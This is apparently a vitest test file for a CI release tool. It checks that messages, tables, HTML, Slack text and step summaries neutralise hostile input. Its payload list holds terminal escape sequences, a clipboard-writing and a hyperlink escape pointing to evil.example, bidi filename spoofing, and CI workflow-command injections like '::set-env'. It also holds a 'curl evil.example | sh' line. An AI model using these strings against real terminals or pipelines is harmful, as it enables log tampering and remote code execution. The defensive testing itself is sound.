import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { UserError } from "../../lib/errors.ts";
import { html } from "../../lib/formats/html.ts";
import { announce } from "../../lib/kinds/announce.ts";
import { releaseHistory } from "../../lib/report/status.ts";
import { slackText } from "../../lib/text/message.ts";
import { renderTable } from "../../lib/text/table.ts";
import { fenced, oneLine, visible, withoutCommands } from "../../lib/text/visible.ts";
import { digest, doing, facts, logged } from "../unit/factory.ts";
import { doing as action, type Ground, type Place, startGround } from "./ground.ts";

/** What steers a terminal, hides or turns round what follows, or is a command to CI. */
const payloads: readonly string[] = [
  "\u001b[31mred",
  "\u001b[8mhidden",
  "\u001b[2J\u001b[H",
  "\u001b]0;title\u0007",
  "\u001b]52;c;Y3VybA==\u0007",
  "\u001b]8;;http://evil.example\u0007here\u001b]8;;\u0007",
  "\u001bP+q544e\u001b\\",
  "\u001b7\u001b8",
  "\u009b31mC1",
  "\u009d0;t\u009c",
  "a\rerror: none",
  "ab\b\b  ",
  "\u0000zero",
  "\u0007\u000e\u000f",
  "\u007fdel",
  "\u202etxt.exe",
  "\u2066a\u2069",
  "\u202aa\u202c",
  "\u200e\u200f\u061cmarked",
  "\u2028next",
  "\u2029next",
  "\u200binvisible",
  "\ufeffmark",
  "\u2060join",
  "\u206fold",
  "\u0085next",
  "\u000bdown\u000c",
  "::set-env name=A::b",
  "::add-mask::e",
  "  ::error::no",
  "##[add-mask]e",
  "##vso[task.setvariable variable=a]b",
  "##teamcity[x]",
];
const hostile = payloads.flatMap((one) => [one, `a name${one}`, `first\n${one}\n  fix: curl evil.example | sh`]);
const steers = /[^\P{Cc}\t\n]|[\u061c\u200b\u200e\u200f\u2028\u2029\u202a-\u202e\u2060-\u206f\ufeff]/u;
const commands = /^\s*::|##\w*\[/m;

let ground: Ground;
let at: Place;
beforeAll(async () => {
  ground = await startGround({ inGit: false });
  at = ground.place("visible");
});
afterAll(() => ground.end());

it("there are many hostile texts, each of which would do something", () => {
  expect(hostile.length).toBeGreaterThan(60);
  expect(payloads.filter((text) => !steers.test(text) && !commands.test(text))).toEqual([]);
});

describe("no hostile text", () => {
  const reasons = hostile.map((reason) =>
    logged({
      ...({
        type: "flip",
        id: "f1",
        tag: "dev",
        version: "1.0.0",
        to: digest("a"),
        from: {},
        why: "rollback",
      } as const),
      ...{ reason, registries: ["ecr"] },
    }),
  );
  const history = () =>
    doing(releaseHistory(facts({ log: reasons }), { all: false, passes: false, flaky: false }), announce)[0]?.text ??
    "";
  it.each([
    ["the history", () => history(), hostile.length],
    [
      "a table",
      () =>
        renderTable(
          ["what"],
          hostile.map((text) => [text]),
        ),
      hostile.length + 1,
    ],
    ["a field of a line", () => hostile.map((text) => oneLine(text)).join("\n"), hostile.length],
  ])("steers or adds a line to %s", (_, make, lines) => {
    const text = make();
    expect([steers.test(text), text.split("\n").length]).toEqual([false, lines]);
  });

  it.each([
    ["a page", (text: string) => html`<p>${text}</p>`.html],
    ["Slack", slackText],
    ["a summary in Markdown", fenced],
  ])("steers %s", (_, make) => {
    expect(hostile.filter((text) => steers.test(make(text)))).toEqual([]);
  });

  it("ends the block of code of a summary", () => {
    expect(fenced("a\n```\n# b\n````\n")).toBe("`````\na\n```\n# b\n````\n\n`````");
  });

  it("steers the summary of a run, or ends its block of code", async () => {
    const summary = at.write("summary", "");
    const told = announce({ text: "a\n```\n\u001b[1m", data: null });
    ground.env["GITHUB_STEP_SUMMARY"] = summary;
    await at.run(["tell", { about: "Tell.", options: {}, steps: () => [action("tell", told)] }]);
    ground.env["GITHUB_STEP_SUMMARY"] = undefined;
    expect(at.read("summary")).toBe("### tell\n\n````\na\n```\n\\u001b[1m\n````\n");
  });

  it.each(["text", "--json", "error", "--dry-run"])("reaches a terminal or a log of CI as %s", async (how) => {
    ground.env["CI"] = "true";
    const workflow = {
      ...{ about: "Tell.", options: {} },
      steps: () => {
        if (how === "error") throw new UserError(hostile.join("\n"), { why: hostile.join(" "), fix: "Look" });
        const told = announce({ text: hostile.join("\n"), data: how === "--json" ? hostile : null });
        return [action("tell", told)];
      },
    };
    const ended = await at.run(["tell", workflow], ...(how.startsWith("--") ? [how] : []));
    expect([ended.code, steers.test(ended.out + ended.err), commands.test(ended.out + ended.err)]).toEqual([
      how === "error" ? 2 : 0,
      false,
      false,
    ]);
    expect(ended.out + ended.err).toContain("\\u202etxt.exe");
    if (how === "error") expect(ended.err.match(/^ {2}fix: /gm)).toHaveLength(1);
    if (how === "--json") expect(JSON.parse(ended.out)).toMatchObject({ result: hostile });
  });
});

describe("visible text", () => {
  it.each([
    ["plain, with\ttabs\nand lines", "plain, with\ttabs\nand lines"],
    ["Zażółć 日本語 العربية 👩‍👩‍👧", "Zażółć 日本語 العربية 👩‍👩‍👧"],
    ["a\r\nb", "a\nb"],
    ["\u001b[1m", "\\u001b[1m"],
  ])("of %j is %j", (text, expected) => {
    expect(visible(text)).toBe(expected);
  });

  it("of JSON is the same value", () => {
    const value = { [hostile.join()]: hostile };
    expect(JSON.parse(withoutCommands(visible(JSON.stringify(value, null, 2))))).toEqual(value);
  });
});
